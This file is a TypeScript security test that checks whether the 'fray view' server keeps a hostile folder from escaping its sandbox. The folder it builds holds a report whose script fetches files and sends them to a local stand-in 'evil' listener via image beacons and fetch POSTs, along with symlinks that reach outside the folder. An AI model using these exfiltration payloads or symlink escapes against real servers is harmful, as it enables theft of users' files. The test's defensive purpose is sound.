/**
 * `fray view` on a stranger's folder (issue 39, class 1): a report whose script tries to read files through the
 * server and send them away, and "replays" that are links (relative, absolute, through a linked folder) to a file
 * outside the folder, a FIFO, an HTML file named .json. Through the real server and headless Chromium: no byte from
 * outside the folder is served, the report's script (and every other way a page may run or load something) does
 * nothing, no request leaves for another address, and every answer carries a Content-Security-Policy. The control
 * serves the same folder with a plain static server, as fray did before: the same probes see the outside file, the
 * script run and requests leave.
 */
import { execFileSync } from 'node:child_process';
import { mkdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer, request, type Server } from 'node:http';
import { join } from 'node:path';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchBrowser } from '../helpers/browser.js';
import { tempDir } from '../helpers/cli.js';
import { demoReplay } from '../cli/view/fixtures.js';
import { startView, type Served } from '../cli/view/startView.js';
import { RUN_BROWSER_TESTS } from './viewerPage.js';

/** The marker of the outside file: no answer may hold it. */
const SECRET = 'SECRET-OUTSIDE-7d1c';

interface Answer {
  status: number;
  headers: Record<string, string | string[] | undefined>;
  body: string;
}

function get(url: string): Promise<Answer> {
  return new Promise((done, fail) => {
    const req = request(url, (res) => {
      let body = '';
      res
        .setEncoding('utf8')
        .on('data', (d: string) => (body += d))
        .on('end', () => done({ status: res.statusCode ?? 0, headers: res.headers, body }));
    });
    req.setTimeout(10_000, () => req.destroy(new Error(`${url}: no answer in 10 s`)));
    req.on('error', fail);
    req.end();
  });
}

/** A server elsewhere (another port) that records every request made to it. */
async function listener(): Promise<{ server: Server; port: number; seen: string[] }> {
  const seen: string[] = [];
  const server = createServer((req, res) => {
    seen.push(`${req.method} ${req.url}`);
    res.end('x');
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', () => done()));
  return { server, port: (server.address() as { port: number }).port, seen };
}

/** The report a stranger sends: every way a page may run a script, load something or go elsewhere. */
function hostileReport(evil: string): string {
  return [
    '<!DOCTYPE html><html lang="en"><head><title>report</title>',
    `<meta http-equiv="refresh" content="1;url=${evil}/refresh">`,
    `<link rel="stylesheet" href="${evil}/style.css">`,
    `<script src="${evil}/script.js"></script>`,
    '<script>',
    '  document.title = "RAN";',
    `  new Image().src = '${evil}/ran';`,
    "  for (const p of ['link-rel.json', 'link-abs.json', 'dir/secret.json', 'ok.json'])",
    "    fetch(p + '?raw').then((r) => r.text()).then((t) => {",
    `      new Image().src = '${evil}/img?' + encodeURIComponent(t.slice(0, 200));`,
    `      fetch('${evil}/post', { method: 'POST', body: t, mode: 'no-cors' });`,
    '    });',
    '</script>',
    `</head><body onload="document.title = 'RAN-ONLOAD'; new Image().src = '${evil}/ran-onload'">`,
    `<img src="${evil}/img-tag"><iframe src="${evil}/frame"></iframe><object data="${evil}/object"></object>`,
    '<a href="link-rel.json">relative link out</a> <a href="link-abs.json">absolute link out</a>',
    '<a href="dir/secret.json">through a linked folder</a> <a id="ok" href="ok.json">a real replay</a>',
    '<a href="page.json">HTML named .json</a> <a href="fifo.json">a FIFO</a>',
    '</body></html>',
  ].join('\n');
}

/** What a browser and a client can get out of the server at `base`, for the hostile folder. */
interface Probe {
  outsideServed: string[];
  scriptRan: boolean;
  left: string[];
  withoutPolicy: string[];
}

describe.skipIf(!RUN_BROWSER_TESTS)('fray view on a hostile folder', () => {
  let dir: string;
  let site: string;
  let browser: Browser;
  let evil: Awaited<ReturnType<typeof listener>>;

  beforeAll(async () => {
    dir = tempDir();
    site = join(dir, 'site');
    mkdirSync(join(dir, 'outside'), { recursive: true });
    mkdirSync(site);
    // The outside file is a valid replay (names are not verified), so only where it is can keep it from being served.
    const replay = JSON.parse(demoReplay(site, 'ok.json')) as { players: { name: string }[] };
    replay.players[0]!.name = SECRET;
    writeFileSync(join(dir, 'outside/secret.json'), JSON.stringify(replay));
    symlinkSync('../outside/secret.json', join(site, 'link-rel.json'));
    symlinkSync(join(dir, 'outside/secret.json'), join(site, 'link-abs.json'));
    symlinkSync('../outside', join(site, 'dir'));
    writeFileSync(join(site, 'page.json'), '<!DOCTYPE html><script>document.title="RAN-JSON"</script>');
    execFileSync('mkfifo', [join(site, 'fifo.json')]);
    evil = await listener();
    writeFileSync(join(site, 'report.html'), hostileReport(`http://127.0.0.1:${evil.port}`));
    browser = await launchBrowser();
  }, 120_000);
  afterAll(async () => {
    await browser?.close();
    evil?.server.close();
  });

  async function probe(base: string): Promise<Probe> {
    const answers: [string, Answer][] = [];
    for (const p of [
      '',
      'report.html',
      'link-rel.json',
      'link-abs.json',
      'dir/secret.json',
      'ok.json',
      'page.json',
      'fifo.json',
    ])
      for (const q of ['', '?raw']) answers.push([`${p}${q}`, await get(`${base}${p}${q}`)]);
    const outsideServed = answers.filter(([, a]) => a.body.includes(SECRET)).map(([p]) => p);
    const withoutPolicy = answers
      .filter(([, a]) => a.status === 200 && a.headers['content-security-policy'] === undefined)
      .map(([p]) => p);
    const before = evil.seen.length;
    const page = await browser.newPage();
    // What the browser sent to another address: requests that got an answer or failed on the network (one that the
    // page's policy blocks never leaves, and fails with the reason `csp`).
    const sent: string[] = [];
    page.on('requestfinished', (r) => sent.push(r.url()));
    page.on('requestfailed', (r) => {
      const why = r.failure()?.errorText ?? '';
      if (why !== 'csp' && why !== 'net::ERR_BLOCKED_BY_CSP') sent.push(`${r.url()} (${why})`);
    });
    await page.goto(base, { waitUntil: 'load' });
    await page.waitForTimeout(2500); // the refresh (1 s), the fetches, the images
    const title = await page.title().catch(() => 'navigated away');
    await page.close();
    const origin = new URL(base).origin;
    const reached = evil.seen.slice(before);
    const left = [...sent.filter((u) => !u.startsWith(origin) && !u.startsWith('data:')), ...reached];
    const ran = title.startsWith('RAN') || reached.some((r) => / \/ran/.test(r));
    return { outsideServed, scriptRan: ran, left, withoutPolicy };
  }

  it('serves no outside byte, runs no foreign script, lets no request leave, and sends a policy with every answer', async () => {
    const served: Served = await startView(['site/report.html'], dir);
    try {
      const p = await probe(served.url);
      expect(p).toEqual({ outsideServed: [], scriptRan: false, left: [], withoutPolicy: [] });
      // What the report may do still works: its own replay opens in the viewer (whose own script runs), and ?raw
      // gives only files the viewer accepts as replays.
      expect((await get(`${served.url}ok.json?raw`)).body).toBe(readFileSync(join(site, 'ok.json'), 'utf8'));
      expect((await get(`${served.url}page.json?raw`)).status).toBe(422);
      expect((await get(`${served.url}fifo.json`)).status).toBe(404);
      expect((await get(`${served.url}link-rel.json?raw`)).status).toBe(404);
      const page = await browser.newPage();
      await page.goto(served.url);
      await page.click('#ok');
      await page.waitForSelector('#fray-viewer[data-ready]', { timeout: 15_000 });
      await page.close();
    } finally {
      await served.stop();
    }
  }, 120_000);

  it('control: a plain static server of the same folder serves the outside file, runs the script and lets requests leave', async () => {
    const naive = createServer((req, res) => {
      const path = decodeURIComponent(new URL(req.url ?? '/', 'http://x').pathname);
      const file = join(site, path === '/' ? 'report.html' : path);
      try {
        if (!statSync(file).isFile()) throw new Error('not a file'); // reading a FIFO would block this test
        const body = readFileSync(file);
        res.writeHead(200, { 'Content-Type': path.endsWith('.json') ? 'application/json' : 'text/html' }).end(body);
      } catch {
        res.writeHead(404).end();
      }
    });
    await new Promise<void>((done) => naive.listen(0, '127.0.0.1', () => done()));
    try {
      const p = await probe(`http://127.0.0.1:${(naive.address() as { port: number }).port}/`);
      expect(p.outsideServed.length).toBeGreaterThan(0);
      expect(p.scriptRan).toBe(true);
      expect(p.left.length).toBeGreaterThan(0);
      expect(p.withoutPolicy.length).toBeGreaterThan(0);
    } finally {
      naive.close();
    }
  }, 120_000);
});
